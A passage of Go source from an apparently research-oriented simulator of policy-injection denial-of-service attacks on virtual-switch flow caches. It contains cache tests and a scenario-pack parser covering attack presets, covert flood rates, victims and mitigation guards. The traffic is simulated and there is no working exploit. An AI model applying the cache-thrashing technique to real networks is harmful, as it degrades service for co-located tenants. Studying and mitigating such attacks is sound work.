	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

func smcKey(src uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, src)
	k.Set(flow.FieldTPDst, 443)
	return k
}

// smcEntry mints a live megaflow entry matching k exactly.
func smcEntry(t *testing.T, mfc *Megaflow, k flow.Key) *Entry {
	t.Helper()
	ent, err := mfc.Insert(flow.Match{Key: k, Mask: flow.ExactMask}, Verdict{Verdict: flowtable.Allow}, 1)
	if err != nil {
		t.Fatal(err)
	}
	return ent
}

func TestSMCHitVerifiesMask(t *testing.T) {
	mfc := NewMegaflow(MegaflowConfig{})
	smc := NewSMC(SMCConfig{Entries: 1 << 10})

	// A wildcard megaflow: only ip_src significant.
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000001)
	m.Mask.SetExact(flow.FieldIPSrc)
	ent, err := mfc.Insert(m, Verdict{Verdict: flowtable.Allow}, 1)
	if err != nil {
		t.Fatal(err)
	}

	k := smcKey(0x0a000001)
	smc.Insert(k, ent)
	got, ok := smc.Lookup(k, 2)
	if !ok || got != ent {
		t.Fatal("exact key missed")
	}
	// A key with the same fingerprint slot is astronomically unlikely to
	// also carry a matching signature; but even a same-slot insert must
	// never serve a key the megaflow's mask rejects.
	other := smcKey(0x0b000009)
	smc.Insert(other, ent) // entry's mask does NOT cover other
	if _, ok := smc.Lookup(other, 3); ok {
		t.Fatal("SMC served a key its megaflow mask rejects")
	}
}

func TestSMCBoundedByCapacity(t *testing.T) {
	mfc := NewMegaflow(MegaflowConfig{FlowLimit: -1})
	smc := NewSMC(SMCConfig{Entries: 64})
	if smc.Cap() != 64 {
		t.Fatalf("cap = %d", smc.Cap())
	}
	for i := 0; i < 4096; i++ {
		k := smcKey(uint64(0x0a000000 + i))
		smc.Insert(k, smcEntry(t, mfc, k))
	}
	if smc.Len() > 64 {
		t.Fatalf("len = %d exceeds capacity 64", smc.Len())
	}
	if smc.Evictions == 0 {
		t.Error("collision overwrites not counted as evictions")
	}
}

func TestSMCCapacityRoundsUpToPowerOfTwo(t *testing.T) {
	smc := NewSMC(SMCConfig{Entries: 1000})
	if smc.Cap() != 1024 {
		t.Fatalf("cap = %d, want 1024", smc.Cap())
	}
	if NewSMC(SMCConfig{}).Cap() != DefaultSMCEntries {
		t.Fatal("default capacity wrong")
	}
}

func TestSMCDisabled(t *testing.T) {
	mfc := NewMegaflow(MegaflowConfig{})
	smc := NewSMC(SMCConfig{Entries: -1})
	k := smcKey(0x0a000001)
	smc.Insert(k, smcEntry(t, mfc, k))
	if smc.Len() != 0 {
		t.Fatal("disabled SMC stored an entry")
	}
	if _, ok := smc.Lookup(k, 1); ok {
		t.Fatal("disabled SMC hit")
	}
	smc.Flush() // must not panic
}

func TestSMCRemove(t *testing.T) {
	mfc := NewMegaflow(MegaflowConfig{})
	smc := NewSMC(SMCConfig{Entries: 1 << 10})
	k := smcKey(0x0a000001)
	smc.Insert(k, smcEntry(t, mfc, k))
	if !smc.Remove(k) {
		t.Fatal("Remove failed on resident key")
	}
	if smc.Remove(k) {
		t.Fatal("double remove succeeded")
	}
	if _, ok := smc.Lookup(k, 2); ok {
		t.Fatal("hit after remove")
	}
}

// TestSMCSurvivesEMCScaleThrash is the attack-economics property the SMC
// tier exists for: a covert flood of distinct keys large enough to thrash
// the 8192-entry EMC leaves a same-sized SMC with every flow still
// resident.
func TestSMCSurvivesEMCScaleThrash(t *testing.T) {
	mfc := NewMegaflow(MegaflowConfig{FlowLimit: -1})
	emc := NewEMC(EMCConfig{}) // 8192
	smc := NewSMC(SMCConfig{}) // ~1M

	victim := smcKey(0x0a0a0005)
	vent := smcEntry(t, mfc, victim)
	emc.Insert(victim, vent)
	smc.Insert(victim, vent)

	// 64k distinct covert flows: 8x the EMC, 1/16th of the SMC.
	for i := 0; i < 1<<16; i++ {
		k := smcKey(uint64(0x30000000 + i))
		ent := smcEntry(t, mfc, k)
		emc.Insert(k, ent)
		smc.Insert(k, ent)
	}

	if _, ok := emc.Lookup(victim, 2); ok {
		t.Skip("EMC random replacement spared the victim this time; the property is statistical")
	}
	if _, ok := smc.Lookup(victim, 2); !ok {
		t.Fatal("SMC lost the victim flow under a flood the table dwarfs")
	}
}
