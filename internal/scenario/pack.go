package scenario

import (
	"fmt"
	"net/netip"
	"sort"
	"strconv"
	"strings"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/chaos"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/guard"
)

// Pack is one declarative scenario: the full experiment a run executes.
// A pack file binds to one base Pack plus one effective Pack per declared
// variant (Variants); variant packs are the base document with the
// variant's overlay merged on top, so a variant may override any section.
type Pack struct {
	Name        string
	Description string
	File        string
	Tags        []string
	Mode        string // "timeline" or "matrix"
	Seed        uint64
	Duration    int // ticks

	Measure  MeasureSpec
	Datapath DatapathSpec
	Reval    *RevalSpec // nil: attach a default revalidator
	Victim   VictimSpec
	Attack   *AttackSpec
	Streams  []StreamSpec
	Tenants  []TenantSpec
	Churn    *ChurnSpec
	Guards   *GuardSpec    // nil: no overload-control guards
	Faults   []chaos.Fault // scheduled fault injections, if any
	Matrix   *MatrixSpec
	Expect   []Expectation

	// Variants are the effective per-variant packs, in declaration order;
	// it always holds at least one entry. On a variant pack itself it is
	// nil and Variant carries the variant's name.
	Variants []*Pack
	Variant  string
}

// MeasureSpec selects how the victim's cost is observed each tick.
// "wall" times real bursts through the pipeline (sim.MeasureCost) and
// yields Gbps series and summary metrics; "off" drives a fixed burst per
// tick without timing, so a run is fully deterministic — same pack + seed
// produce a byte-identical JSON report.
type MeasureSpec struct {
	Mode        string // "wall" (default) or "off"
	CostSamples int    // victim burst size per tick (default 64)
}

// DatapathSpec maps onto dataplane.New options. The zero value models the
// paper's kernel datapath: no EMC, flat megaflow TSS, no conntrack.
type DatapathSpec struct {
	EMC           bool
	EMCEntries    int
	SMC           bool
	SortByHits    bool
	SortEvery     int
	StagedPruning bool
	MaxMasks      int
	MaskEvictLRU  bool
	Conntrack     bool
	MaxConns      int
	MaxIdle       uint64
}

// RevalSpec configures the revalidator actor attached to the cluster; a
// nil spec attaches the default (fig3's) configuration. Disabled turns
// cluster maintenance off entirely.
type RevalSpec struct {
	Disabled     bool
	Interval     uint64
	Workers      int
	DumpRate     float64
	FlowLimit    int
	MinFlowLimit int
	GrowStep     int
	FixedLimit   bool
	MaxIdle      uint64
	MaxHard      uint64
	PolicyCheck  bool
}

// VictimSpec shapes the measured victim workload and its ingress policy.
type VictimSpec struct {
	Tenant   string // default "victim-corp"
	Pod      string // default "iperf-server"
	Client   netip.Addr
	Gbps     float64
	Flows    int
	FrameLen int
	Policy   *PolicySpec // default: allow client/24 tcp :5201
}

// PolicySpec is a tenant ingress whitelist in pack form.
type PolicySpec struct {
	Stateful bool
	Entries  []EntrySpec
}

// EntrySpec is one whitelist entry.
type EntrySpec struct {
	Src, Dst         netip.Prefix
	Proto            uint8
	SrcPort, DstPort acl.PortMatch
	Deny             bool
	Comment          string
}

// Entry converts to the acl form.
func (e EntrySpec) Entry() acl.Entry {
	out := acl.Entry{
		Src: e.Src, Dst: e.Dst, Proto: e.Proto,
		SrcPort: e.SrcPort, DstPort: e.DstPort, Comment: e.Comment,
	}
	if e.Deny {
		out.Action = flowtable.Deny
	} else {
		out.Action = flowtable.Allow
	}
	return out
}

// AttackSpec declares the policy-injection attack: the malicious ACL's
// target fields (or a named preset) and the covert stream's schedule.
type AttackSpec struct {
	Start    int // tick the ACL lands and the covert stream starts
	Stop     int // tick the covert stream halts (the ACL stays); 0: runs to the end
	Preset   string
	Fields   []attack.TargetField
	PPS      float64 // covert replay rate; 0 = full cycle per CycleTicks
	Cycle    float64 // ticks per full sequence cycle (default 2.5)
	FrameLen int     // covert frame size (default 64)
}

// Build constructs the attack instance.
func (a *AttackSpec) Build() (*attack.Attack, error) {
	var atk *attack.Attack
	switch {
	case a.Preset != "" && len(a.Fields) > 0:
		return nil, fmt.Errorf("attack: preset and fields are mutually exclusive")
	case a.Preset != "":
		build, ok := attackPresets[a.Preset]
		if !ok {
			return nil, fmt.Errorf("attack: unknown preset %q (have %s)", a.Preset, strings.Join(attackPresetNames(), ", "))
		}
		atk = build()
	case len(a.Fields) > 0:
		atk = &attack.Attack{Fields: a.Fields}
	default:
		atk = attack.ThreeField()
	}
	if a.FrameLen != 0 {
		atk.FrameLen = a.FrameLen
	}
	return atk, atk.Validate()
}

var attackPresets = map[string]func() *attack.Attack{
	"single-field": attack.SingleField,
	"two-field":    attack.TwoField,
	"three-field":  attack.ThreeField,
	"v6-two-field": attack.V6TwoField,
}

func attackPresetNames() []string {
	names := make([]string, 0, len(attackPresets))
	for n := range attackPresets {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// StreamSpec is one background traffic stream. Kind "mix" draws a seeded
// skewed multi-flow mix (traffic.Mix); kind "pcap" replays a capture file.
// To names the destination pod ("victim" or a tenant pod name); the
// stream enters at that pod's port.
type StreamSpec struct {
	Name     string
	Kind     string // "mix" or "pcap"
	To       string // default "victim"
	Flows    int
	Skew     float64
	PPS      float64
	Subnet   netip.Prefix
	FrameLen int
	File     string // pcap path (kind "pcap")
	Start    int
	Stop     int // 0: runs to the end
}

// TenantSpec deploys one extra tenant pod, optionally with its own policy
// and background stream — the multi-tenant cross-talk dimension.
type TenantSpec struct {
	Name   string
	Pod    string
	Policy *PolicySpec
	Stream *StreamSpec
}

// ChurnSpec drives a policy-churn storm: every Period ticks the target
// pod's policy is recompiled with a rotated extra entry, flushing the
// node's caches while the attack and the revalidator race the rebuild.
type ChurnSpec struct {
	Tenant string // default: the victim tenant
	Pod    string // default: the victim pod
	Start  int
	Stop   int // 0: runs to the end
	Period int
	Rotate int // distinct rotated entries (default 8)
}

// GuardSpec declares the run's overload-control guards: each present
// section enables that guard with the given tuning (zero fields take
// the guard package's defaults).
type GuardSpec struct {
	KillSwitch *guard.KillSwitchConfig
	Admission  *guard.AdmissionConfig
	MaskQuota  *guard.MaskQuotaConfig
}

// Build assembles the configured guard bundle.
func (g *GuardSpec) Build() *guard.Guard {
	return guard.New(guard.Config{KillSwitch: g.KillSwitch, Admission: g.Admission, MaskQuota: g.MaskQuota})
}

// MatrixSpec (mode "matrix") evaluates the attack against a row of
// mitigation variants via mitigation.Evaluate.
type MatrixSpec struct {
	Variants []string
	Samples  int
}

// Expectation is one expected-metric assertion checked after the run.
type Expectation struct {
	Variant   string // "" targets the first run
	Metric    string
	Op        string // ==, !=, <, <=, >, >=
	Value     float64
	Tolerance float64 // slack for == / !=
}

var validOps = map[string]bool{"==": true, "!=": true, "<": true, "<=": true, ">": true, ">=": true}

// check evaluates the assertion against an observed value.
func (e Expectation) check(got float64) bool {
	switch e.Op {
	case "==":
		return abs(got-e.Value) <= e.Tolerance
	case "!=":
		return abs(got-e.Value) > e.Tolerance
	case "<":
		return got < e.Value
	case "<=":
		return got <= e.Value
	case ">":
		return got > e.Value
	case ">=":
		return got >= e.Value
	}
	return false
}

func abs(v float64) float64 {
	if v < 0 {
		return -v
	}
	return v
}

// HasTag reports whether the pack carries the tag.
func (p *Pack) HasTag(tag string) bool {
	for _, t := range p.Tags {
		if t == tag {
			return true
		}
	}
	return false
}

// ---------------------------------------------------------------------------
// Binding: node tree → Pack, with file:line: path-qualified errors.

type bindError struct{ err error }

type binder struct{ file string }

func (b *binder) failf(n *node, path, format string, args ...any) {
	msg := fmt.Sprintf(format, args...)
	panic(bindError{fmt.Errorf("%s:%d: %s: %s", b.file, n.line, path, msg)})
}

// mapv is a mapping being consumed key by key; done() rejects leftovers.
type mapv struct {
	b    *binder
	n    *node
	path string
	used map[string]bool
}

func (b *binder) mapAt(n *node, path string) *mapv {
	if n.kind != mapNode {
		b.failf(n, path, "expected a mapping, got a %s", n.kindName())
	}
	return &mapv{b: b, n: n, path: path, used: map[string]bool{}}
}

func (m *mapv) child(key string) *node {
	m.used[key] = true
	return m.n.fields[key]
}

func (m *mapv) has(key string) bool { return m.n.fields[key] != nil }

func (m *mapv) at(key string) string {
	if m.path == "" {
		return key
	}
	return m.path + "." + key
}

func (m *mapv) done() {
	for _, k := range m.n.keys {
		if !m.used[k] {
			m.b.failf(m.n.fields[k], m.at(k), "unknown key %q", k)
		}
	}
}

func (m *mapv) scalar(key string) (*node, bool) {
	n := m.child(key)
	if n == nil {
		return nil, false
	}
	if n.kind != scalarNode {
		m.b.failf(n, m.at(key), "expected a scalar, got a %s", n.kindName())
	}
	return n, true
}

func (m *mapv) str(key, def string) string {
	n, ok := m.scalar(key)
	if !ok {
		return def
	}
	return n.scalar
}

func (m *mapv) intval(key string, def int) int {
	n, ok := m.scalar(key)
	if !ok {
		return def
	}
	v, err := strconv.Atoi(n.scalar)
	if err != nil {
		m.b.failf(n, m.at(key), "expected an integer, got %q", n.scalar)
	}
	return v
}

func (m *mapv) uintval(key string, def uint64) uint64 {
	n, ok := m.scalar(key)
	if !ok {
		return def
	}
	v, err := strconv.ParseUint(n.scalar, 10, 64)
	if err != nil {
		m.b.failf(n, m.at(key), "expected an unsigned integer, got %q", n.scalar)
	}
	return v
}

func (m *mapv) floatval(key string, def float64) float64 {
	n, ok := m.scalar(key)
	if !ok {
		return def
	}
	v, err := strconv.ParseFloat(n.scalar, 64)
	if err != nil {
		m.b.failf(n, m.at(key), "expected a number, got %q", n.scalar)
	}
	return v
}

func (m *mapv) boolval(key string, def bool) bool {
	n, ok := m.scalar(key)
	if !ok {
		return def
	}
	switch n.scalar {
	case "true", "on", "yes":
		return true
	case "false", "off", "no":
		return false
	}
	m.b.failf(n, m.at(key), "expected a boolean, got %q", n.scalar)
	return false
}

func (m *mapv) strs(key string) []string {
	n := m.child(key)
	if n == nil {
		return nil
	}
	if n.kind != seqNode {
		m.b.failf(n, m.at(key), "expected a sequence, got a %s", n.kindName())
	}
	out := make([]string, 0, len(n.items))
	for i, item := range n.items {
		if item.kind != scalarNode {
			m.b.failf(item, fmt.Sprintf("%s[%d]", m.at(key), i), "expected a scalar, got a %s", item.kindName())
		}
		out = append(out, item.scalar)
	}
	return out
}

func (m *mapv) seq(key string) []*node {
	n := m.child(key)
	if n == nil {
		return nil
	}
	if n.kind != seqNode {
		m.b.failf(n, m.at(key), "expected a sequence, got a %s", n.kindName())
	}
	return n.items
}

func (m *mapv) addr(key string, def netip.Addr) netip.Addr {
	n, ok := m.scalar(key)
	if !ok {
		return def
	}
	a, err := netip.ParseAddr(n.scalar)
	if err != nil {
		m.b.failf(n, m.at(key), "expected an IP address, got %q", n.scalar)
	}
	return a
}

func (m *mapv) prefix(key string, def netip.Prefix) netip.Prefix {
	n, ok := m.scalar(key)
	if !ok {
		return def
	}
	p, err := netip.ParsePrefix(n.scalar)
	if err != nil {
		m.b.failf(n, m.at(key), "expected a CIDR prefix, got %q", n.scalar)
	}
	return p.Masked()
}

func (m *mapv) port(key string) acl.PortMatch {
	n, ok := m.scalar(key)
	if !ok {
		return acl.PortMatch{}
	}
	path := m.at(key)
	parse := func(s string) uint16 {
		v, err := strconv.ParseUint(strings.TrimSpace(s), 10, 16)
		if err != nil {
			m.b.failf(n, path, "expected a port or port range, got %q", n.scalar)
		}
		return uint16(v)
	}
	if from, to, ok := strings.Cut(n.scalar, "-"); ok {
		return acl.PortRange(parse(from), parse(to))
	}
	return acl.Port(parse(n.scalar))
}

func (m *mapv) proto(key string) uint8 {
	n, ok := m.scalar(key)
	if !ok {
		return 0
	}
	switch strings.ToLower(n.scalar) {
	case "tcp":
		return 6
	case "udp":
		return 17
	case "icmp":
		return 1
	case "any", "":
		return 0
	}
	v, err := strconv.ParseUint(n.scalar, 10, 8)
	if err != nil {
		m.b.failf(n, m.at(key), "expected tcp, udp, icmp or a protocol number, got %q", n.scalar)
	}
	return uint8(v)
}

// bindPack binds one effective document (base or variant-merged).
func (b *binder) bindPack(root *node) (p *Pack, err error) {
	defer func() {
		if r := recover(); r != nil {
			be, ok := r.(bindError)
			if !ok {
				panic(r)
			}
			p, err = nil, be.err
		}
	}()
	m := b.mapAt(root, "")
	p = &Pack{
		Name:        m.str("name", ""),
		Description: m.str("description", ""),
		Tags:        m.strs("tags"),
		Mode:        m.str("mode", "timeline"),
		Seed:        m.uintval("seed", 1),
		Duration:    m.intval("duration", 150),
		File:        b.file,
	}
	if p.Name == "" {
		b.failf(root, "name", "required")
	}
	if p.Mode != "timeline" && p.Mode != "matrix" {
		b.failf(m.child("mode"), "mode", "must be \"timeline\" or \"matrix\", got %q", p.Mode)
	}
	if p.Duration <= 0 {
		b.failf(m.child("duration"), "duration", "must be positive, got %d", p.Duration)
	}
	p.Measure = b.bindMeasure(m.child("measure"))
	p.Datapath = b.bindDatapath(m.child("datapath"))
	p.Reval = b.bindReval(m.child("revalidator"))
	p.Victim = b.bindVictim(m.child("victim"))
	p.Attack = b.bindAttack(m.child("attack"))
	for i, sn := range m.seq("streams") {
		p.Streams = append(p.Streams, b.bindStream(sn, fmt.Sprintf("streams[%d]", i)))
	}
	for i, tn := range m.seq("tenants") {
		p.Tenants = append(p.Tenants, b.bindTenant(tn, fmt.Sprintf("tenants[%d]", i)))
	}
	p.Churn = b.bindChurn(m.child("churn"))
	p.Guards = b.bindGuards(m.child("guards"))
	for i, fn := range m.seq("faults") {
		p.Faults = append(p.Faults, b.bindFault(fn, fmt.Sprintf("faults[%d]", i)))
	}
	p.Matrix = b.bindMatrix(m.child("matrix"))
	for i, en := range m.seq("expect") {
		p.Expect = append(p.Expect, b.bindExpect(en, fmt.Sprintf("expect[%d]", i)))
	}
	m.used["variants"] = true // consumed by Load, not per-variant binding
	m.done()

	if p.Mode == "matrix" && p.Matrix == nil {
		b.failf(root, "matrix", "mode \"matrix\" requires a matrix section")
	}
	if p.Mode == "matrix" && p.Attack == nil {
		b.failf(root, "attack", "mode \"matrix\" requires an attack section")
	}
	if p.Mode == "timeline" && p.Matrix != nil {
		b.failf(m.child("matrix"), "matrix", "matrix section requires mode: matrix")
	}
	if p.Attack != nil && p.Attack.Start >= p.Duration {
		b.failf(m.child("attack"), "attack.start", "start tick %d is beyond duration %d", p.Attack.Start, p.Duration)
	}
	if p.Attack != nil {
		if _, err := p.Attack.Build(); err != nil {
			b.failf(m.child("attack"), "attack", "%v", err)
		}
	}
	if p.Churn != nil && p.Churn.Period <= 0 {
		b.failf(m.child("churn"), "churn.period", "must be positive")
	}
	if len(p.Faults) > 0 {
		// chaos.New is the single validator for fault specs; it also
		// fills the per-fault defaults in place.
		if _, err := chaos.New(chaos.Config{Faults: p.Faults}); err != nil {
			b.failf(m.child("faults"), "faults", "%v", err)
		}
	}
	return p, nil
}

func (b *binder) bindMeasure(n *node) MeasureSpec {
	spec := MeasureSpec{Mode: "wall", CostSamples: 64}
	if n == nil {
		return spec
	}
	m := b.mapAt(n, "measure")
	spec.Mode = m.str("mode", "wall")
	spec.CostSamples = m.intval("cost_samples", 64)
	m.done()
	if spec.Mode != "wall" && spec.Mode != "off" {
		b.failf(n, "measure.mode", "must be \"wall\" or \"off\", got %q", spec.Mode)
	}
	if spec.CostSamples <= 0 {
		b.failf(n, "measure.cost_samples", "must be positive")
	}
	return spec
}

func (b *binder) bindDatapath(n *node) DatapathSpec {
	var spec DatapathSpec
	if n == nil {
		return spec
	}
	m := b.mapAt(n, "datapath")
	spec.EMC = m.boolval("emc", false)
	spec.EMCEntries = m.intval("emc_entries", 0)
	spec.SMC = m.boolval("smc", false)
	spec.SortByHits = m.boolval("sort_by_hits", false)
	spec.SortEvery = m.intval("sort_every", 0)
	spec.StagedPruning = m.boolval("staged_pruning", false)
	spec.MaxMasks = m.intval("max_masks", 0)
	spec.MaskEvictLRU = m.boolval("mask_evict_lru", false)
	spec.Conntrack = m.boolval("conntrack", false)
	spec.MaxConns = m.intval("max_conns", 0)
	spec.MaxIdle = m.uintval("max_idle", 0)
	m.done()
	return spec
}

func (b *binder) bindReval(n *node) *RevalSpec {
	if n == nil {
		return nil
	}
	m := b.mapAt(n, "revalidator")
	spec := &RevalSpec{
		Disabled:     m.boolval("disabled", false),
		Interval:     m.uintval("interval", 0),
		Workers:      m.intval("workers", 0),
		DumpRate:     m.floatval("dump_rate", 0),
		FlowLimit:    m.intval("flow_limit", 0),
		MinFlowLimit: m.intval("min_flow_limit", 0),
		GrowStep:     m.intval("grow_step", 0),
		FixedLimit:   m.boolval("fixed_limit", false),
		MaxIdle:      m.uintval("max_idle", 0),
		MaxHard:      m.uintval("max_hard", 0),
		PolicyCheck:  m.boolval("policy_check", false),
	}
	m.done()
	return spec
}

func (b *binder) bindVictim(n *node) VictimSpec {
	spec := VictimSpec{
		Tenant: "victim-corp",
		Pod:    "iperf-server",
		Client: netip.MustParseAddr("10.10.0.5"),
		Gbps:   0.95,
		Flows:  8,
	}
	if n == nil {
		return spec
	}
	m := b.mapAt(n, "victim")
	spec.Tenant = m.str("tenant", spec.Tenant)
	spec.Pod = m.str("pod", spec.Pod)
	spec.Client = m.addr("client", spec.Client)
	spec.Gbps = m.floatval("gbps", spec.Gbps)
	spec.Flows = m.intval("flows", spec.Flows)
	spec.FrameLen = m.intval("frame_len", 0)
	if pn := m.child("policy"); pn != nil {
		spec.Policy = b.bindPolicy(pn, "victim.policy")
	}
	m.done()
	return spec
}

func (b *binder) bindPolicy(n *node, path string) *PolicySpec {
	m := b.mapAt(n, path)
	spec := &PolicySpec{Stateful: m.boolval("stateful", false)}
	for i, en := range m.seq("entries") {
		spec.Entries = append(spec.Entries, b.bindEntry(en, fmt.Sprintf("%s.entries[%d]", path, i)))
	}
	m.done()
	if len(spec.Entries) == 0 {
		b.failf(n, path+".entries", "at least one entry required")
	}
	return spec
}

func (b *binder) bindEntry(n *node, path string) EntrySpec {
	m := b.mapAt(n, path)
	spec := EntrySpec{
		Src:     m.prefix("src", netip.Prefix{}),
		Dst:     m.prefix("dst", netip.Prefix{}),
		Proto:   m.proto("proto"),
		SrcPort: m.port("src_port"),
		DstPort: m.port("dst_port"),
		Deny:    m.boolval("deny", false),
		Comment: m.str("comment", ""),
	}
	m.done()
	return spec
}

func (b *binder) bindAttack(n *node) *AttackSpec {
	if n == nil {
		return nil
	}
	m := b.mapAt(n, "attack")
	spec := &AttackSpec{
		Start:    m.intval("start", 60),
		Stop:     m.intval("stop", 0),
		Preset:   m.str("preset", ""),
		PPS:      m.floatval("pps", 0),
		Cycle:    m.floatval("cycle", 2.5),
		FrameLen: m.intval("frame_len", 0),
	}
	for i, fn := range m.seq("fields") {
		spec.Fields = append(spec.Fields, b.bindTargetField(fn, fmt.Sprintf("attack.fields[%d]", i)))
	}
	m.done()
	if spec.Cycle <= 0 {
		b.failf(n, "attack.cycle", "must be positive")
	}
	if spec.Stop != 0 && spec.Stop <= spec.Start {
		b.failf(n, "attack.stop", "must be after start")
	}
	return spec
}

func (b *binder) bindTargetField(n *node, path string) attack.TargetField {
	m := b.mapAt(n, path)
	name := m.str("field", "")
	f, ok := flow.FieldByName(name)
	if !ok {
		b.failf(n, path+".field", "unknown field %q", name)
	}
	var tf attack.TargetField
	tf.Field = f.ID
	tf.Width = m.intval("width", 0)
	if an, ok := m.scalar("allow"); ok {
		tf.Allow = b.allowValue(an, path+".allow", f.ID)
	} else {
		b.failf(n, path+".allow", "required")
	}
	m.done()
	return tf
}

// allowValue parses a whitelisted field value: an integer, an IPv4
// address for the v4 fields, or an IPv6 address (top half) for the hi
// fields.
func (b *binder) allowValue(n *node, path string, id flow.FieldID) uint64 {
	if v, err := strconv.ParseUint(n.scalar, 0, 64); err == nil && !n.quoted {
		return v
	}
	a, err := netip.ParseAddr(n.scalar)
	if err != nil {
		b.failf(n, path, "expected an integer or IP address, got %q", n.scalar)
	}
	switch id {
	case flow.FieldIPSrc, flow.FieldIPDst:
		if !a.Is4() {
			b.failf(n, path, "field wants an IPv4 address, got %q", n.scalar)
		}
		return flow.V4(a)
	case flow.FieldIPv6SrcHi, flow.FieldIPv6DstHi:
		if !a.Is6() || a.Is4() {
			b.failf(n, path, "field wants an IPv6 address, got %q", n.scalar)
		}
		hi, _ := flow.V6(a)
		return hi
	}
	b.failf(n, path, "field %s takes an integer value, got IP %q", id.Name(), n.scalar)
	return 0
}

func (b *binder) bindStream(n *node, path string) StreamSpec {
	m := b.mapAt(n, path)
	spec := StreamSpec{
		Name:     m.str("name", ""),
		Kind:     m.str("kind", "mix"),
		To:       m.str("to", "victim"),
		Flows:    m.intval("flows", 1000),
		Skew:     m.floatval("skew", 0),
		PPS:      m.floatval("pps", 0),
		Subnet:   m.prefix("subnet", netip.Prefix{}),
		FrameLen: m.intval("frame_len", 0),
		File:     m.str("file", ""),
		Start:    m.intval("start", 0),
		Stop:     m.intval("stop", 0),
	}
	m.done()
	switch spec.Kind {
	case "mix":
		if spec.PPS <= 0 {
			b.failf(n, path+".pps", "required for mix streams")
		}
	case "pcap":
		if spec.File == "" {
			b.failf(n, path+".file", "required for pcap streams")
		}
		if spec.PPS <= 0 {
			b.failf(n, path+".pps", "required for pcap streams")
		}
	default:
		b.failf(m.child("kind"), path+".kind", "must be \"mix\" or \"pcap\", got %q", spec.Kind)
	}
	if spec.Name == "" {
		spec.Name = spec.Kind
	}
	if spec.Stop != 0 && spec.Stop <= spec.Start {
		b.failf(n, path+".stop", "must be after start")
	}
	return spec
}

func (b *binder) bindTenant(n *node, path string) TenantSpec {
	m := b.mapAt(n, path)
	spec := TenantSpec{
		Name: m.str("name", ""),
		Pod:  m.str("pod", ""),
	}
	if spec.Name == "" {
		b.failf(n, path+".name", "required")
	}
	if spec.Pod == "" {
		spec.Pod = spec.Name + "-pod"
	}
	if pn := m.child("policy"); pn != nil {
		spec.Policy = b.bindPolicy(pn, path+".policy")
	}
	if sn := m.child("stream"); sn != nil {
		s := b.bindStream(sn, path+".stream")
		if s.To == "victim" {
			s.To = spec.Pod // tenant streams default to their own pod
		}
		spec.Stream = &s
	}
	m.done()
	return spec
}

func (b *binder) bindChurn(n *node) *ChurnSpec {
	if n == nil {
		return nil
	}
	m := b.mapAt(n, "churn")
	spec := &ChurnSpec{
		Tenant: m.str("tenant", ""),
		Pod:    m.str("pod", ""),
		Start:  m.intval("start", 0),
		Stop:   m.intval("stop", 0),
		Period: m.intval("period", 0),
		Rotate: m.intval("rotate", 8),
	}
	m.done()
	if spec.Rotate <= 0 {
		b.failf(n, "churn.rotate", "must be positive")
	}
	return spec
}

func (b *binder) bindGuards(n *node) *GuardSpec {
	if n == nil {
		return nil
	}
	m := b.mapAt(n, "guards")
	spec := &GuardSpec{}
	if kn := m.child("killswitch"); kn != nil {
		km := b.mapAt(kn, "guards.killswitch")
		spec.KillSwitch = &guard.KillSwitchConfig{
			TripFactor:       km.floatval("trip_factor", 0),
			ClearFactor:      km.floatval("clear_factor", 0),
			CollapsedMaxIdle: km.uintval("collapsed_max_idle", 0),
			ClearRounds:      km.intval("clear_rounds", 0),
		}
		km.done()
	}
	if an := m.child("admission"); an != nil {
		am := b.mapAt(an, "guards.admission")
		spec.Admission = &guard.AdmissionConfig{
			QueueDepth:        am.intval("queue_depth", 0),
			PortQuota:         am.intval("port_quota", 0),
			BreakerTripAfter:  am.intval("breaker_trip_after", 0),
			BreakerBackoff:    am.intval("breaker_backoff", 0),
			BreakerMaxBackoff: am.intval("breaker_max_backoff", 0),
			HalfOpenProbes:    am.intval("half_open_probes", 0),
		}
		am.done()
	}
	if qn := m.child("mask_quota"); qn != nil {
		qm := b.mapAt(qn, "guards.mask_quota")
		spec.MaskQuota = &guard.MaskQuotaConfig{PerTenant: qm.intval("per_tenant", 0)}
		qm.done()
	}
	m.done()
	if spec.KillSwitch == nil && spec.Admission == nil && spec.MaskQuota == nil {
		b.failf(n, "guards", "at least one of killswitch, admission, mask_quota required")
	}
	return spec
}

func (b *binder) bindFault(n *node, path string) chaos.Fault {
	m := b.mapAt(n, path)
	f := chaos.Fault{
		Kind:   m.str("kind", ""),
		Start:  m.intval("start", 0),
		Stop:   m.intval("stop", 0),
		Prob:   m.floatval("prob", 0),
		Delay:  m.uintval("delay", 0),
		Factor: m.floatval("factor", 0),
	}
	m.done()
	if f.Kind == "" {
		b.failf(n, path+".kind", "required (one of %s)", strings.Join(chaos.Kinds, ", "))
	}
	return f
}

func (b *binder) bindMatrix(n *node) *MatrixSpec {
	if n == nil {
		return nil
	}
	m := b.mapAt(n, "matrix")
	spec := &MatrixSpec{
		Variants: m.strs("variants"),
		Samples:  m.intval("samples", 256),
	}
	m.done()
	if len(spec.Variants) == 0 {
		b.failf(n, "matrix.variants", "at least one variant required")
	}
	for i, v := range spec.Variants {
		if _, err := mitigationVariant(v); err != nil {
			b.failf(n, fmt.Sprintf("matrix.variants[%d]", i), "%v", err)
		}
	}
	return spec
}

func (b *binder) bindExpect(n *node, path string) Expectation {
	m := b.mapAt(n, path)
	spec := Expectation{
		Variant:   m.str("variant", ""),
		Metric:    m.str("metric", ""),
		Op:        m.str("op", ""),
		Value:     m.floatval("value", 0),
		Tolerance: m.floatval("tolerance", 0),
	}
	m.done()
	if spec.Metric == "" {
		b.failf(n, path+".metric", "required")
	}
	if !validOps[spec.Op] {
		b.failf(n, path+".op", "must be one of ==, !=, <, <=, >, >=; got %q", spec.Op)
	}
	return spec
}

// Describe renders the pack's canonical one-pack summary — the shape the
// golden-file loader tests pin.
func (p *Pack) Describe() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "pack %s mode=%s seed=%d duration=%d tags=[%s]\n",
		p.Name, p.Mode, p.Seed, p.Duration, strings.Join(p.Tags, " "))
	for _, v := range p.Variants {
		fmt.Fprintf(&sb, "variant %s\n", v.Variant)
